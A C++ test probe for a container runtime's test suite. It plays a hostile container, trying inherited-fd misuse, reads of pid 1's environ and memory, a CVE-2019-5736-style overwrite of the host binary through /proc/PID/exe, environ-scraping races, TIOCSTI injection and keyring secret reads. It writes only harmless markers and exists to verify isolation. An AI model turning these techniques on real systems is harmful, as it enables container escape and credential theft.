// A static program copied into test containers that attacks the user from
// the inside, as a hostile container would (issue 9, items 1-4), and writes
// what the kernel let it do to a report file ("-" for stdout), one
// "key=value" line per attempt:
//
//   reach_probe fds REPORT        use every inherited fd beyond 0-2: read it,
//                                 list it as a directory, write into it
//   reach_probe pid1 REPORT       read pid 1's environ, memory and fds, open
//                                 /proc/1/exe; then leave a daemon that tries
//                                 to open that binary for writing until
//                                 REPORT.exe says it did or gave up
//   reach_probe race REPORT SECRET STOP
//                                 daemon: watch for every new pid and try its
//                                 environ (for SECRET) and exe (for a uxc
//                                 binary), until the file STOP appears
//   reach_probe env REPORT        the environment
//   reach_probe tty REPORT        open /dev/tty, TIOCSTI on fds 0-2
//   reach_probe keys REPORT       search the session keyring for the key
//                                 with-key added, and read it
//   reach_probe with-key SECRET CMD [ARGS]
//                                 on the host, as the user: a new session
//                                 keyring holding a "user" key with SECRET,
//                                 then exec CMD in it
//
// Arguments after these are ignored (hooks get "NAME lxc TYPE").
#include <dirent.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>

extern char** environ;

namespace {

constexpr int kDaemonSeconds = 60;
constexpr char kMarker[] = "\nWRITTEN-FROM-THE-CONTAINER\n";

FILE* OpenReport(const char* path) {
  if (std::strcmp(path, "-") == 0) return stdout;
  FILE* report = std::fopen(path, "w");
  if (report == nullptr) std::exit(2);
  setvbuf(report, nullptr, _IONBF, 0);
  return report;
}

std::string ErrnoName(int error) {
  switch (error) {
    case EACCES: return "EACCES";
    case EPERM: return "EPERM";
    case ENOENT: return "ENOENT";
    case ENXIO: return "ENXIO";
    case ETXTBSY: return "ETXTBSY";
    case EIO: return "EIO";
    case EBADF: return "EBADF";
    case ENOTDIR: return "ENOTDIR";
    case EISDIR: return "EISDIR";
    case ESRCH: return "ESRCH";
    case ENOKEY: return "ENOKEY";
    default: return "errno" + std::to_string(error);
  }
}

// Printable text of `data`: NULs as spaces, other controls as '?'.
std::string Printable(const char* data, ssize_t size) {
  std::string text;
  for (ssize_t i = 0; i < size; ++i) {
    char c = data[i];
    text += c == '\0' ? ' ' : (c < 32 || c > 126) ? '?' : c;
  }
  return text;
}

// "ok:<content>" or the errno's name.
std::string ReadFile(const char* path, size_t limit = 4096) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return ErrnoName(errno);
  std::string buffer(limit, '\0');
  ssize_t n = read(fd, buffer.data(), limit);
  int error = errno;
  close(fd);
  if (n < 0) return "open-ok-read-" + ErrnoName(error);
  return "ok:" + Printable(buffer.data(), n);
}

std::string ListDirectory(int dir_fd) {
  int copy = openat(dir_fd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (copy < 0) return ErrnoName(errno);
  DIR* dir = fdopendir(copy);
  if (dir == nullptr) return ErrnoName(errno);
  std::string names = "ok:";
  while (dirent* entry = readdir(dir)) {
    if (entry->d_name[0] != '.') names += std::string(entry->d_name) + " ";
  }
  closedir(dir);
  return names;
}

// fds: each inherited fd, used every way it allows.
int Fds(FILE* report) {
  DIR* dir = opendir("/proc/self/fd");
  if (dir == nullptr) return 2;
  int count = 0;
  std::string lines;
  while (dirent* entry = readdir(dir)) {
    int fd = std::atoi(entry->d_name);
    if (entry->d_name[0] == '.' || fd <= 2 || fd == dirfd(dir) || fd == fileno(report)) continue;
    ++count;
    char target[512] = {};
    readlink(("/proc/self/fd/" + std::to_string(fd)).c_str(), target, sizeof target - 1);
    char data[256];
    ssize_t n = pread(fd, data, sizeof data, 0);
    if (n < 0) n = read(fd, data, sizeof data);
    std::string read_result = n >= 0 ? "ok:" + Printable(data, n) : ErrnoName(errno);
    std::string list_result = ListDirectory(fd);
    std::string write_result = write(fd, kMarker, sizeof kMarker - 1) > 0 ? "ok" : ErrnoName(errno);
    lines += "fd" + std::to_string(fd) + "=" + target + " read=" + read_result + " list=" + list_result +
             " write=" + write_result + "\n";
  }
  closedir(dir);
  std::fprintf(report, "fds_beyond_stdio=%d\n%s", count, lines.c_str());
  return 0;
}

double Now() {
  timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return now.tv_sec + now.tv_nsec / 1e9;
}

// Forks a daemon in a session of its own; returns in the daemon only.
void Daemonize() {
  pid_t first = fork();
  if (first > 0) {
    waitpid(first, nullptr, 0);
    std::exit(0);
  }
  setsid();
  if (fork() > 0) _exit(0);
  int null = open("/dev/null", O_RDWR);
  for (int fd = 0; fd <= 2; ++fd) dup2(null, fd);
}

// With a handle on a binary (an O_PATH fd from /proc/PID/exe), opens it for
// writing as soon as nothing executes it any more (ETXTBSY), and appends a
// marker: the runc CVE-2019-5736 attack.
std::string WriteThrough(int handle, double deadline) {
  std::string path = "/proc/self/fd/" + std::to_string(handle);
  int last = 0;
  while (Now() < deadline) {
    int fd = open(path.c_str(), O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd >= 0) {
      bool written = write(fd, kMarker, sizeof kMarker - 1) > 0;
      close(fd);
      return written ? "ok" : "open-ok-write-" + ErrnoName(errno);
    }
    last = errno;
    if (last != ETXTBSY) break;
    usleep(20 * 1000);
  }
  return ErrnoName(last);
}

int Pid1(FILE* report, const char* report_path) {
  std::fprintf(report, "exe_link=%s\n", [] {
    char target[512] = {};
    return readlink("/proc/1/exe", target, sizeof target - 1) >= 0 ? std::string("ok:") + target
                                                                      : ErrnoName(errno);
  }().c_str());
  std::fprintf(report, "environ=%s\n", ReadFile("/proc/1/environ").c_str());
  int mem = open("/proc/1/mem", O_RDONLY | O_CLOEXEC);
  if (mem < 0) {
    std::fprintf(report, "mem=%s\n", ErrnoName(errno).c_str());
  } else {
    // Any readable byte will do: the first mapping's.
    std::string maps = ReadFile("/proc/1/maps", 64);
    unsigned long start = maps.starts_with("ok:") ? std::strtoul(maps.c_str() + 3, nullptr, 16) : 0;
    char byte;
    std::fprintf(report, "mem=%s\n",
                 pread(mem, &byte, 1, static_cast<off_t>(start)) == 1 ? "ok" : ("open-ok-read-" + ErrnoName(errno)).c_str());
    close(mem);
  }
  int fd_dir = open("/proc/1/fd", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  std::fprintf(report, "fd_list=%s\n", fd_dir >= 0 ? ListDirectory(fd_dir).c_str() : ErrnoName(errno).c_str());
  if (fd_dir >= 0) close(fd_dir);
  int writable = open("/proc/1/exe", O_WRONLY | O_CLOEXEC);
  std::fprintf(report, "exe_open_write=%s\n", writable >= 0 ? "ok" : ErrnoName(errno).c_str());
  if (writable >= 0) close(writable);
  int handle = open("/proc/1/exe", O_PATH);
  std::fprintf(report, "exe_open_path=%s\n", handle >= 0 ? "ok" : ErrnoName(errno).c_str());
  std::string exe_report = std::string(report_path) + ".exe";
  if (report != stdout) std::fclose(report);
  if (handle < 0) {
    FILE* done = OpenReport(exe_report.c_str());
    std::fprintf(done, "exe_write=no handle\n");
    return 0;
  }
  Daemonize();
  std::string result = WriteThrough(handle, Now() + kDaemonSeconds);
  FILE* done = OpenReport(exe_report.c_str());
  std::fprintf(done, "exe_write=%s\n", result.c_str());
  return 0;
}

bool EndsWith(const std::string& text, const std::string& end) {
  return text.size() >= end.size() && text.compare(text.size() - end.size(), end.size(), end) == 0;
}

// Watches the container's pid namespace for new processes (pids are given
// out in order, so it probes around the highest one seen instead of
// scanning /proc), and tries each one's environ and exe again and again
// while it lives: an exec may make it readable.
int Race(const char* report_path, const std::string& secret, const char* stop) {
  Daemonize();
  double deadline = Now() + kDaemonSeconds;
  int highest = getpid();
  int handle = -1;
  std::set<int> seen, environ_hits, exe_hits;
  std::string hits;
  while (Now() < deadline && access(stop, F_OK) != 0) {
    for (int pid = std::max(highest - 3, getpid() + 1); pid <= highest + 3; ++pid) {
      std::string base = "/proc/" + std::to_string(pid);
      std::string environ_text = ReadFile((base + "/environ").c_str(), 65536);
      if (environ_text == "ENOENT") continue;
      seen.insert(pid);
      highest = std::max(highest, pid);
      if (environ_text.find(secret) != std::string::npos && environ_hits.insert(pid).second) {
        hits += "environ_hit=" + std::to_string(pid) + "\n";
      }
      char target[512] = {};
      // "/home/u/bin/uxc", or "/memfd:uxc (deleted)" for a sealed copy.
      if (readlink((base + "/exe").c_str(), target, sizeof target - 1) > 0 &&
          (EndsWith(target, "/uxc") || std::strstr(target, "uxc (deleted)") != nullptr) &&
          exe_hits.insert(pid).second) {
        hits += "exe_hit=" + std::to_string(pid) + ":" + target + "\n";
        if (handle < 0) handle = open((base + "/exe").c_str(), O_PATH);
      }
    }
  }
  std::string write_result = handle >= 0 ? WriteThrough(handle, Now() + 10) : "no handle";
  FILE* report = OpenReport(report_path);
  std::fprintf(report, "seen=%zu\nenviron_hits=%zu\nexe_hits=%zu\nexe_write=%s\n%s", seen.size(),
               environ_hits.size(), exe_hits.size(), write_result.c_str(), hits.c_str());
  std::fclose(report);
  return 0;
}

int Env(FILE* report) {
  for (char** entry = environ; *entry != nullptr; ++entry) std::fprintf(report, "%s\n", *entry);
  return 0;
}

int Tty(FILE* report) {
  int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
  std::fprintf(report, "dev_tty=%s\n", tty >= 0 ? "ok" : ErrnoName(errno).c_str());
  if (tty >= 0) close(tty);
  std::fprintf(report, "own_session=%d\n", getsid(0) == getpid() ? 1 : 0);
  for (int fd = 0; fd <= 2; ++fd) {
    if (!isatty(fd)) continue;
    // A harmless character: a newline would run whatever the shell holds.
    char c = ' ';
    std::fprintf(report, "tiocsti_fd%d=%s\n", fd, ioctl(fd, TIOCSTI, &c) == 0 ? "ok" : ErrnoName(errno).c_str());
  }
  return 0;
}

constexpr char kKeyDescription[] = "uxc-test-secret";

long KeyCtl(int operation, unsigned long a, unsigned long b, unsigned long c) {
  return syscall(SYS_keyctl, operation, a, b, c, 0UL);
}

int WithKey(const char* secret, char** command) {
  if (KeyCtl(KEYCTL_JOIN_SESSION_KEYRING, 0, 0, 0) < 0) return 3;
  if (syscall(SYS_add_key, "user", kKeyDescription, secret, std::strlen(secret), KEY_SPEC_SESSION_KEYRING) < 0) {
    return 4;
  }
  execv(command[0], command);
  return 5;
}

int Keys(FILE* report) {
  long key = KeyCtl(KEYCTL_SEARCH, static_cast<unsigned long>(KEY_SPEC_SESSION_KEYRING),
                    reinterpret_cast<unsigned long>("user"), reinterpret_cast<unsigned long>(kKeyDescription));
  std::fprintf(report, "key_search=%s\n", key >= 0 ? "ok" : ErrnoName(errno).c_str());
  if (key < 0) return 0;
  char value[256] = {};
  long length = KeyCtl(KEYCTL_READ, static_cast<unsigned long>(key), reinterpret_cast<unsigned long>(value),
                       sizeof value - 1);
  std::fprintf(report, "key_read=%s\n", length >= 0 ? value : ErrnoName(errno).c_str());
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 3) return 2;
  // Writing into an inherited pipe whose reader is gone must not end the
  // probe before it reports.
  signal(SIGPIPE, SIG_IGN);
  std::string mode = argv[1];
  if (mode == "race") return argc < 5 ? 2 : Race(argv[2], argv[3], argv[4]);
  if (mode == "with-key") return argc < 4 ? 2 : WithKey(argv[2], argv + 3);
  FILE* report = OpenReport(argv[2]);
  if (mode == "fds") return Fds(report);
  if (mode == "pid1") return Pid1(report, argv[2]);
  if (mode == "env") return Env(report);
  if (mode == "tty") return Tty(report);
  if (mode == "keys") return Keys(report);
  return 2;
}
